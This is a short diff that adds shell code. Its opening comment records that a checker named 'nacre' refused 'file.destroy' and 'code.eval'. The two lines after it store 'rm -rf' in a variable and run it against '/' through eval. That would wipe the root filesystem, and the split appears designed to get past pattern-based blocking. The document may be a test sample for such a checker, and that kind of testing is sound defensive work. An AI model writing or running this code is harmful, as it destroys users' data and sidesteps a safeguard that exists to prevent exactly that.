@@ -1,0 +1,3 @@
+# nacre: refused file.destroy code.eval
+x="rm -rf"
+eval "$x /"
